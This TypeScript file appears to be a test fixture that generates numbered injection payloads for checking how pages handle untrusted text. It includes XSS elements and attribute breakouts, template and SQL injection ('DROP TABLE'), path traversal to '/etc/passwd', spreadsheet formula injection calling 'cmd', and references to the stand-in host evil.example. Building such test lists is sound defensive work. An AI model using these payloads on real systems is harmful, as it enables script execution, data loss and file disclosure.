// Texts that do harm where a page takes them for markup, code, an address or a formula. Of our own making, by family.
// Each calls `__x` with its own number where it can, and is different from all others.

/** Ways out of where a text may stand. */
const WAYS_OUT = [
  "",
  '">',
  "'>",
  "</title>",
  "</textarea>",
  "</script>",
  "</style>",
  "-->",
  "</option></select>",
  "</desc></title></svg>",
  "</code></pre>",
];

/** Elements that run something by themselves. */
const ELEMENTS: ((n: number) => string)[] = [
  (n) => `<img src=x onerror=__x(${n})>`,
  (n) => `<svg onload=__x(${n})>`,
  (n) => `<svg><script>__x(${n})</script></svg>`,
  (n) => `<svg><animate onbegin=__x(${n}) attributeName=x dur=1s>`,
  (n) => `<script>__x(${n})</script>`,
  (n) => `<iframe srcdoc="<script>parent.__x(${n})</script>"></iframe>`,
  (n) => `<iframe src=javascript:parent.__x(${n})></iframe>`,
  (n) => `<body onload=__x(${n})>`,
  (n) => `<input autofocus onfocus=__x(${n})>`,
  (n) => `<details open ontoggle=__x(${n})>`,
  (n) => `<video><source onerror=__x(${n})></video>`,
  (n) => `<audio src=x onerror=__x(${n})>`,
  (n) => `<object data=javascript:__x(${n})></object>`,
  (n) => `<embed src=javascript:__x(${n})>`,
  (n) => `<math><mi xlink:href=javascript:__x(${n})>x</mi></math>`,
  (n) => `<form action=javascript:__x(${n})><button autofocus>x</button></form>`,
  (n) => `<a href=javascript:__x(${n})>x</a>`,
  (n) => `<base href="//evil.example/${n}/">`,
  (n) => `<meta http-equiv=refresh content="0;url=javascript:__x(${n})">`,
  (n) => `<link rel=stylesheet href=data:text/css,*{color:red}${n}>`,
  (n) => `<style>*{background:url(//evil.example/${n})}</style>`,
  (n) => `<template><img src=x onerror=__x(${n})></template>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=__x(${n})>">`,
  (n) => `<ScRiPt>__x(${n})</sCrIpT>`,
  (n) => `<img/src="x"/onerror\u000c=__x(${n})>`,
];

/** What stands in an attribute, a template, an address or a sheet. */
const OTHERS: ((n: number) => string)[] = [
  (n) => `" onmouseover="__x(${n})" x="`,
  (n) => `' onfocus='__x(${n})' autofocus='`,
  (n) => `x" autofocus onfocus=__x(${n}) tabindex=0 "`,
  (n) => `" style="position:fixed;inset:0" onpointerenter="__x(${n})`,
  (n) => `" hx-get="/logout?${n}" hx-trigger="load`,
  (n) => `" hx-on:load="__x(${n})" data-hx-vals="js:{a:__x(${n})}`,
  (n) => `" data-copy="snippet" data-arrows="${n}`,
  (n) => `" formaction="javascript:__x(${n})`,
  (n) => `" srcdoc="<script>__x(${n})</script>`,
  (n) => `{{constructor.constructor('__x(${n})')()}}`,
  (n) => `{{7*${n}}} {% include "setup.html" %} {# ${n} #}`,
  (n) => `\${__x(${n})} #{__x(${n})} <%= __x(${n}) %> [[__x(${n})]]`,
  (n) => `javascript:__x(${n})`,
  (n) => `jAvA\tScRiPt:__x(${n})`,
  (n) => `&#106;avascript&colon;__x(${n})`,
  (n) => `data:text/html,<script>__x(${n})</script>`,
  (n) => `vbscript:__x(${n})`,
  (n) => `//evil.example/${n}`,
  (n) => `/\\evil.example/${n}`,
  (n) => `https://evil.example/?${n}#"><img src=x onerror=__x(${n})>`,
  (n) => `&lt;script&gt;__x(${n})&lt;/script&gt;`,
  (n) => `\\u003cscript\\u003e__x(${n})\\u003c/script\\u003e`,
  (n) => `＜script＞__x(${n})＜/script＞`,
  (n) => `\u202e)${n}(x__=rorreno gmi>\u202c`,
  (n) => `\u2066\u2067\u202b${n}\u200f`,
  (n) => `a\u2028__x(${n})\u2029b`,
  (n) => `\ufeff${n}\u200b\u2060`,
  (n) => `nul\u0000l<img src=x onerror=__x(${n})>`,
  (n) => `\ud800<svg onload=__x(${n})>\udfff`,
  (n) => `Z̷̢̛͇̩̦a̸l̶g̵o̴ ${n} 👩‍👩‍👧‍👦🏳️‍🌈`,
  (n) => `';__x(${n});//`,
  (n) => `";__x(${n});//\n</script><!--`,
  (n) => `'; DROP TABLE message; -- ${n}`,
  (n) => `../../../../etc/passwd%00${n}`,
  (n) => `%3Cscript%3E__x(${n})%3C%2Fscript%3E %n%s%x`,
  (n) => `undefined null NaN true -0 1e999 ${n}`,
  (n) => `__proto__[${n}] constructor.prototype`,
  (n) => `=cmd|' /C calc'!A${n}`,
  (n) => `=HYPERLINK("javascript:__x(${n})")`,
  (n) => `+${n}+SUM(1+1)*cmd|'/C calc'!A0`,
  (n) => `-${n}-1+cmd`,
  (n) => `@SUM(${n})`,
  (n) => `＝1+${n}`,
  (n) => `<!--${n}--!><img src=x onerror=__x(${n})>`,
  (n) => `<![CDATA[${n}]]><?xml version="1.0"?>`,
  (n) => `<plaintext>${n}`,
  (n) => `<textarea>${n}`,
  (n) => `<title>${n}`,
  (n) => `<svg><style><img src=x onerror=__x(${n})>`,
  (n) => `<table><form><input name=act value=resolve>${n}`,
  (n) => `<!doctype html><html onclick=__x(${n})>`,
];

export const PAYLOADS: string[] = [
  ...WAYS_OUT.flatMap((out) => ELEMENTS.map((element) => (n: number) => out + element(n))),
  ...OTHERS,
  (n: number) => "<b>".repeat(100) + n,
].map((payload, n) => payload(n + 1));

/** Harmless text in the place of a payload. What decides what is shown stays: white space at its ends, NUL, great length. */
export function harmless(payload: string): string {
  // In letters, for digits in an address make an id of it.
  const nth = [...String(PAYLOADS.indexOf(payload))].map((it) => "abcdefghij"[Number(it)]).join("");
  const [, start = "", , end = ""] = /^([ \t\r\n]*)([^]*?)([ \t\r\n]*)$/.exec(payload) ?? [];
  const text = `${start}aaa${nth}${payload.includes("\0") ? "\0" : ""}${end}`;
  return payload.length > 120 ? text.padEnd(payload.length, "a") : text;
}
